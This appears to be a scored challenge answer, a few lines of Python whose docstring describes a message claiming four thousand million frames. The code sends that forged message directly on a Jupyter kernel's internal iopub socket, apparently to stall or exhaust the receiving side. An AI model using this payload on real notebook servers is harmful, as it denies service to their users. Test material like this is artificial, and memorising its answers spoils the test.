"""A message that says that it has four thousand million frames, each of which would be noted until the last one came."""
# part: 3
# earns: 10
# %%
# MODEL
# %%
import struct

get_ipython().kernel.iopub_thread._sock.send(b"\1" + struct.pack("<I", 2**32 - 1) + bytes(2**16))
